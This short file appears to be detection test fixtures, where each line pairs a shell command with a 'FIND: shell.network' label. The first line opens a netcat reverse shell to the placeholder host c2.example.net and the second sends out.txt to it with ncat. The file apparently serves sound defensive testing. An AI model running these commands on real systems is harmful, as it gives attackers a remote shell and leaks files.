nc -e /bin/sh c2.example.net 4444  # FIND: shell.network
ncat c2.example.net 9001 < out.txt  # FIND: shell.network
